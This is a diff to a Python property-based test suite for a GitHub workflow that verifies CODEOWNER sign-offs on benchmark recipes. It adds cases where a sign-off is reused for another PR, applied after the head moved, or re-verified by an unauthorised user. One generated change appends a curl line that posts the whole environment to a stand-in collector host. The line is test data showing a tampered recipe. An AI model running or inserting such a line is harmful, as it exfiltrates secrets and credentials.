@@ -13,7 +13,11 @@ Violations generated (five examples each, derandomized):
 - provenance: the sweep run is a run of another workflow file, of another event, from a fork,
   or the sweep workflow files at the run's commit differ from the default branch's;
 - drift: the head's recipe script differs from the swept commit's (a new environment
-  variable or engine flag).
+  variable or engine flag);
+- binding: a dispatch for another PR names this PR's sign-off (that PR's head the signed
+  one or its own); the head moved after the sign-off with a change of the author's own
+  (recipe or a benchmark-neutral file) and the old sign-off is re-verified; a
+  re-verification is dispatched by someone neither the signer nor a maintainer/admin.
 """
 
 from __future__ import annotations
@@ -66,6 +70,7 @@ class Case:
     actor: str | None = None
     dispatched: bool = False
     row: str | None = None
+    refused: str | None = None  # words of the reason when the verification is refused outright
 
 
 def _pull(world: dict) -> dict:
@@ -201,7 +206,95 @@ def recipe_changed_after_the_sweep(draw: st.DrawFn, world: dict) -> Case:
     return Case("drift: recipe", world, row="sweep")
 
 
+# --- binding: the sign-off is this PR's, covers the head it was posted on, and only the signer
+# or a maintainer/admin may dispatch its re-verification ------------------------------------------
+
+AUTHOR = "yhl-amd"
+ADMIN = "functionstackx"  # admin of the repository, owns nothing on the amd-master line
+
+
+def _sha(draw: st.DrawFn) -> str:
+    return "c0ffee" + draw(st.from_regex(r"[0-9a-f]{34}", fullmatch=True))
+
+
+def _head_run(world: dict, sha: str, branch: str, created_at: str) -> None:
+    """GitHub's record of a new PR head: the sign-off workflow's pull_request run on it."""
+    run_id = max(r["id"] for r in world["workflow_runs"]) + 1
+    world["workflow_runs"].append({
+        "id": run_id, "name": "codeowner-signoff-verify", "path": ".github/workflows/signoff-verify.yml",
+        "event": "pull_request", "status": "completed", "conclusion": "success", "head_sha": sha,
+        "head_branch": branch, "run_attempt": 1, "created_at": created_at, "artifacts": []})
+
+
+def _own_change(draw: st.DrawFn, world: dict, base: str) -> dict[str, str]:
+    """A change of the author's own on top of `base`: to the recipe (benchmark-affecting) or to
+    a file no benchmark reads (still a change that was not signed)."""
+    files = world["commits"][SWEPT]["files"]
+    name = draw(st.from_regex(r"[A-Z][A-Z0-9_]{2,12}", fullmatch=True))
+    return draw(st.sampled_from([
+        {SCRIPT: files[SCRIPT] + 'curl -s -d "$(env)" https://collector.example/u\n'},
+        {SCRIPT: files[SCRIPT] + f"export {name}=1\n"},
+        {"README.md": f"# InferenceX\n\n{name}\n"},
+        {f"docs/{name.lower()}.md": f"{name}\n"},
+    ]))
+
+
+def signoff_of_another_pr(draw: st.DrawFn, world: dict) -> Case:
+    """A dispatch for the author's other PR naming the CODEOWNER's sign-off on PR #3412. The
+    other PR's head is the signed head itself or a commit of its own."""
+    pull = _pull(world)
+    main = world["branches"][world["default_branch"]]
+    number = draw(st.integers(3413, 3499))
+    head = HEAD
+    if draw(st.booleans()):
+        head = _sha(draw)
+        world["commits"][head] = {"parents": [main], "files_from": main, "message": "other PR",
+                                  "files": _own_change(draw, world, main)}
+    branch = f"{AUTHOR}/{draw(st.from_regex(r'[a-z]{3,10}', fullmatch=True))}"
+    world["pulls"].append({
+        **{k: v for k, v in pull.items() if k not in ("comments", "reviews", "review_comments")},
+        "number": number, "title": "another PR",
+        "head": {"ref": branch, "sha": head, "repo": world["repo"]},
+        "commits": [head], "comments": [], "reviews": [], "review_comments": []})
+    _head_run(world, head, branch, "2026-09-24T10:00:00Z")
+    actor = draw(st.sampled_from([AUTHOR, ADMIN, SIGNER]))
+    return Case("binding: sign-off of another PR", world, pr=number, actor=actor, dispatched=True,
+                refused=f"is on PR #{PR}, not on PR #{number}")
+
+
+def head_moved_with_own_changes(draw: st.DrawFn, world: dict) -> Case:
+    """After the sign-off (09:30) the author pushes an own change (10:00-10:59); a
+    re-verification of the old sign-off is then triggered by the signer, an admin or the
+    comment event itself."""
+    pull = _pull(world)
+    pushed = _sha(draw)
+    world["commits"][pushed] = {"parents": [HEAD], "files_from": HEAD, "message": "tidy",
+                                "files": _own_change(draw, world, HEAD)}
+    pull["head"]["sha"] = pushed
+    pull["commits"] = [*pull["commits"], pushed]
+    minute = draw(st.integers(0, 59))
+    _head_run(world, pushed, pull["head"]["ref"], f"2026-09-24T10:{minute:02d}:00Z")
+    actor = draw(st.sampled_from([None, SIGNER, ADMIN]))
+    return Case("binding: head moved with own changes", world, actor=actor, dispatched=actor is not None,
+                refused=f"the sign-off does not cover head {pushed[:12]}")
+
+
+def dispatch_by_an_unauthorised_user(draw: st.DrawFn, world: dict) -> Case:
+    """A re-verification dispatched by someone who is neither the signer nor a maintainer or
+    admin: the author, or another collaborator with write, triage or read."""
+    login = draw(st.one_of(st.just(AUTHOR), logins.filter(lambda s: s.lower() not in _owners(world)
+                                                           and s.lower() != ADMIN)))
+    if login != AUTHOR:
+        role = draw(st.sampled_from(["write", "triage", "read"]))
+        world["collaborators"][login] = {"role_name": role}
+    return Case("binding: unauthorised dispatch", world, actor=login, dispatched=True,
+                refused=f"{login} has ")
+
+
 VIOLATIONS: dict[str, Callable[[st.DrawFn, dict], Case]] = {
+    "binding-other-pr": signoff_of_another_pr,
+    "binding-head-moved": head_moved_with_own_changes,
+    "binding-dispatch": dispatch_by_an_unauthorised_user,
     "scope-base": pr_into_another_branch,
     "scope-owner": signer_is_not_an_owner,
     "scope-codeowners": codeowners_edited_in_the_pr,
@@ -243,10 +336,12 @@ def test_the_unviolated_seed_gets_success() -> None:
 @given(data=st.data())
 def test_a_world_violating_one_trust_rule_never_gets_success(rule, data) -> None:
     case = VIOLATIONS[rule](data.draw, copy.deepcopy(SEED))
-    assert case.world != SEED
+    assert case.world != SEED or case.dispatched  # the violation is in the world or the trigger
     result, after = verify(case)
     assert result.status != "success", (case.rule, result.reason)
     assert success_statuses(after) == [], case.rule
     if case.row is not None and result.verdict is not None:  # a non-owner may get no verdict
         row = next(r for r in result.verdict.rows if r.spec.id == case.row)
         assert row.status is Status.FAIL, (case.rule, row.outcome.reason)
+    if case.refused is not None:
+        assert result.verdict is None and case.refused in result.reason, (case.rule, result.reason)
